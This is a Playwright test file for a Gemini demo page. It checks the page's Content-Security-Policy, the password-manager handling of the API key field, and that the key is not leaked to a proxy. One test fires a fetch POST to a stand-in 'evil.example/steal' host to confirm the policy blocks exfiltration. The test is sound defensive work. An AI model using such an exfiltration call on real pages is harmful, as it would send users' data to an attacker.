// Issue 12, the demo: a Content-Security-Policy, a key field password managers leave
// alone, and no Gemini key sent to a proxy.
import { test, expect } from './support/fixtures.mjs';
import { addExample, finishedOverlay, openConnectionPanel, openDemo } from './support/demo.mjs';
import { EMULATOR_URL, resetAll } from './support/emulator.mjs';

test.beforeEach(async () => {
  await resetAll();
});

test('the page has a Content-Security-Policy that blocks connections to other hosts', async ({ page }) => {
  const response = await page.goto(`/?emulator=${encodeURIComponent(EMULATOR_URL)}`);
  // frame-ancestors cannot be set in a <meta>: the server sends it.
  expect(response.headers()['content-security-policy']).toBe("frame-ancestors 'none'");
  await expect(page.getByRole('button', { name: 'Run' })).toBeVisible();
  const policies = await page.evaluate(() =>
    Array.from(document.querySelectorAll('meta[http-equiv="Content-Security-Policy"]'), (m) => m.content));
  expect(policies).toHaveLength(2);
  const [page_policy, connections] = policies;
  const scripts = page_policy.split(';').map((d) => d.trim()).find((d) => d.startsWith('script-src '));
  // Trunk's inline loader is allowed by its hash, not by 'unsafe-inline'.
  expect(scripts).toMatch(/^script-src 'self' 'wasm-unsafe-eval' 'sha256-[A-Za-z0-9+/]{43}='$/);
  expect(page_policy).not.toContain('INLINE-SCRIPT-HASHES');
  expect(page_policy).toContain("object-src 'none'");
  expect(connections).toBe(
    "connect-src 'self' https://generativelanguage.googleapis.com http://127.0.0.1:* http://localhost:* https://127.0.0.1:* https://localhost:*");

  // A whole run (examples, request, overlay, styles) breaks no rule of the policy.
  await page.evaluate(() => {
    window.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => window.__violations.push(`${e.effectiveDirective} ${e.blockedURI}`));
  });
  await addExample(page, 'socks.jpg');
  await page.getByRole('button', { name: 'Detect' }).click();
  await finishedOverlay(page);
  expect(await page.evaluate(() => window.__violations)).toEqual([]);

  const violation = await page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (e) => resolve(`${e.effectiveDirective} ${e.blockedURI}`), { once: true });
    fetch('https://evil.example/steal', { method: 'POST', body: 'x' }).catch(() => {});
  }));
  expect(violation).toBe('connect-src https://evil.example/steal');
});

test('the key field does not invite a password manager to store the key', async ({ page }) => {
  await openDemo(page);
  await openConnectionPanel(page);
  await page.getByText('Gemini API', { exact: true }).click();
  const field = page.getByLabel('API key', { exact: true });
  await expect(field).toHaveAttribute('type', 'text');
  await expect(field).toHaveAttribute('autocomplete', 'off');
  await expect(field).toHaveAttribute('data-1p-ignore', 'true');
  await expect(field).toHaveAttribute('data-lpignore', 'true');
  await expect(field).toHaveAttribute('data-bwignore', 'true');
  await expect(page.locator('input[type="password"]')).toHaveCount(0);
  // Still masked on screen.
  expect(await field.evaluate((el) => getComputedStyle(el).webkitTextSecurity)).toBe('disc');
});

test('with a proxy as base URL the Gemini key is not sent to it', async ({ page }) => {
  const geminiKey = 'AIzaGeminiOnlyKeyForProxy0000000000042';
  await openDemo(page);
  await openConnectionPanel(page);
  await page.getByText('Gemini API', { exact: true }).click();
  await page.getByLabel('API key', { exact: true }).fill(geminiKey);
  await page.getByRole('button', { name: 'Use key' }).click();
  await openConnectionPanel(page);
  // The emulator stands in for the proxy (a loopback proxy needs no reload for the CSP).
  const base = page.getByLabel('Base URL (optional: your proxy)');
  await base.fill(EMULATOR_URL);
  await base.press('Tab');
  await expect(page.locator('details.connection > summary')).toContainText('via 127.0.0.1');

  const sent = [];
  page.on('request', (request) => {
    if (request.url().startsWith(EMULATOR_URL)) sent.push(request.headers()['x-goog-api-key'] ?? '');
  });
  await addExample(page, 'socks.jpg');
  await page.getByRole('button', { name: 'Detect' }).click();
  await expect.poll(() => sent.length, { timeout: 30_000 }).toBeGreaterThan(0);
  await expect(page.locator('.result .badge')).not.toHaveText(/Waiting|Answering/, { timeout: 60_000 });
  expect(sent.filter((key) => key.includes(geminiKey))).toEqual([]);
});
